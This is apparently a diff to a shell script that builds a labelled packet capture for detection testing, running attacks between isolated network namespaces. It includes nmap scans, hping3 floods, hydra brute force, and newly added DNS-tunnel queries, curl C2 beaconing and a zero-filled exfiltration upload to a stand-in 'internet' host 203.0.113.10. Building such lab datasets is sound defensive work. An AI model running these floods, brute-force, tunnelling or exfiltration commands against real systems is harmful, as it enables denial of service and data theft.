@@ -2,7 +2,9 @@
 # Makes tools.pcap.gz and tools.labels.json: real attack tools between two
 # network namespaces joined by a veth pair, captured on the victim's side.
 # Needs root, nmap, hping3, hydra, tcpdump, python3, OpenSSH's sshd (with
-# host keys). Bounded in count and time: about 2 minutes, 14k packets.
+# host keys), dig, curl. Bounded in count and time: about 3 minutes, 15k
+# packets. The victim namespace also holds an "internet" address,
+# 203.0.113.10, that the attacker reaches through it.
 set -eu
 out=$(cd "$(dirname "$0")" && pwd)
 tmp=$(mktemp -d)
@@ -22,6 +24,8 @@ ip -n beh_a link set beh_va up; ip -n beh_v link set beh_vv up
 # A remote network behind the victim (which does not forward): a sweep of an
 # on-link network is ARP only, one of a routed network is IP.
 ip -n beh_a route add 10.98.0.0/24 via $V
+ip -n beh_v addr add 203.0.113.10/32 dev beh_vv
+ip -n beh_a route add 203.0.113.10/32 via $V
 # The victim: a web server on 80, a Basic-auth realm refusing everyone on 8080.
 cat > $tmp/auth401.py <<'PY'
 import http.server
@@ -34,6 +38,36 @@ http.server.ThreadingHTTPServer(("10.99.0.2", 8080), H).serve_forever()
 PY
 ip netns exec beh_v python3 -m http.server 80 --bind $V >/dev/null 2>&1 & echo $! > $tmp/http.pid
 ip netns exec beh_v python3 $tmp/auth401.py >/dev/null 2>&1 & echo $! > $tmp/auth.pid
+# A DNS server answering every query with a TXT record.
+cat > $tmp/dns_txt.py <<'PY'
+import socket, struct
+s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+s.bind(("10.99.0.2", 53))
+while True:
+    q, addr = s.recvfrom(512)
+    if len(q) < 12: continue
+    i = 12
+    while i < len(q) and q[i] != 0: i += q[i] + 1
+    txt = b"aGVsbG8gd29ybGQgZnJvbSB0aGUgdHVubmVs"
+    ans = b"\xc0\x0c" + struct.pack(">HHIH", 16, 1, 0, len(txt) + 1) + bytes([len(txt)]) + txt
+    s.sendto(q[:2] + b"\x81\x80" + struct.pack(">HHHH", 1, 1, 0, 0) + q[12:i + 5] + ans, addr)
+PY
+ip netns exec beh_v python3 $tmp/dns_txt.py >/dev/null 2>&1 & echo $! > $tmp/dns.pid
+# The "internet" web server: check-ins and uploads.
+cat > $tmp/c2.py <<'PY'
+import http.server
+class H(http.server.BaseHTTPRequestHandler):
+    def reply(self):
+        self.send_response(200); self.send_header("Content-Length", "2"); self.end_headers(); self.wfile.write(b"ok")
+    def do_GET(self): self.reply()
+    def do_POST(self):
+        n = int(self.headers.get("Content-Length", 0))
+        while n > 0: n -= len(self.rfile.read(min(n, 65536)))
+        self.reply()
+    def log_message(self, *a): pass
+http.server.ThreadingHTTPServer(("203.0.113.10", 80), H).serve_forever()
+PY
+ip netns exec beh_v python3 $tmp/c2.py >/dev/null 2>&1 & echo $! > $tmp/c2.pid
 mkdir -p /run/sshd
 ip netns exec beh_v /usr/sbin/sshd -D -o ListenAddress=$V -o PidFile=none -o PasswordAuthentication=yes & echo $! > $tmp/sshd.pid
 ip netns exec beh_v tcpdump -i beh_vv -w $tmp/tools.pcap -U >/dev/null 2>&1 & echo $! > $tmp/tcpdump.pid
@@ -46,7 +80,7 @@ s=$(ts); ip netns exec beh_a nmap -sS -p 1-1000 -T4 -n $V >/dev/null; label port
 # An ICMP echo sweep of the routed /24.
 s=$(ts); ip netns exec beh_a nmap -sn -PE --send-ip -n 10.98.0.0/24 >/dev/null; label host_sweep T1018 "$s" "$(ts)"; sleep 2
 s=$(ts); ip netns exec beh_a timeout 20 hping3 -S -p 80 -c 1500 -i u1000 $V >/dev/null 2>&1 || true; label syn_flood T1499.001 "$s" "$(ts)"; sleep 2
-s=$(ts); ip netns exec beh_a timeout 20 hping3 --udp -p 9999 -c 6000 -i u100 $V >/dev/null 2>&1 || true; label udp_flood T1498.001 "$s" "$(ts)"; sleep 2
+s=$(ts); ip netns exec beh_a timeout 20 hping3 --udp -p 9999 -c 6000 -i u100 $V >$tmp/hping_udp.log 2>&1 || cat $tmp/hping_udp.log >&2; label udp_flood T1498.001 "$s" "$(ts)"; sleep 2
 seq -f 'pass%g' 1 30 > $tmp/pw.txt
 s=$(ts); ip netns exec beh_a timeout 60 hydra -l admin -P $tmp/pw.txt -t 4 -s 8080 $V http-get / >/dev/null 2>&1 || true
 label http_brute_force T1110.001 "$s" "$(ts)"; sleep 2
@@ -54,6 +88,18 @@ label http_brute_force T1110.001 "$s" "$(ts)"; sleep 2
 # opens only about 9 sessions.
 s=$(ts); ip netns exec beh_a timeout 120 hydra -l admin -P $tmp/pw.txt -t 4 ssh://$V >/dev/null 2>&1 || true
 label ssh_brute_force T1110.001 "$s" "$(ts)"; sleep 2
+# 40 TXT queries carrying 48 base32 characters each.
+s=$(ts); for i in $(seq 1 40); do
+    n=$(head -c 30 /dev/urandom | base32 | tr -d '=' | tr 'A-Z' 'a-z')
+    ip netns exec beh_a dig +short +tries=1 +time=1 @$V TXT "$n.$i.t.exfil-tunnel.net" >/dev/null
+done; label dns_tunnel T1071.004 "$s" "$(ts)"; sleep 2
+# A curl loop checking in every ~3 s, then a 2 MB upload over the same channel.
+s=$(ts); for i in $(seq 1 12); do ip netns exec beh_a curl -s -m 2 http://203.0.113.10/c2 >/dev/null; sleep 2.7; done
+label beaconing T1071.001 "$s" "$(ts)"
+# Zeros: what is uploaded does not matter, and they keep the capture small.
+head -c 2000000 /dev/zero > $tmp/blob
+s=$(ts); ip netns exec beh_a curl -s -m 20 --data-binary @$tmp/blob http://203.0.113.10/upload >/dev/null
+label exfiltration_over_c2 T1041 "$s" "$(ts)"; sleep 2
 kill "$(cat $tmp/tcpdump.pid)"; sleep 1
 gzip -9 -c $tmp/tools.pcap > "$out/tools.pcap.gz"
 printf '{"attacks": [%s\n]}\n' "$labels" > "$out/tools.labels.json"
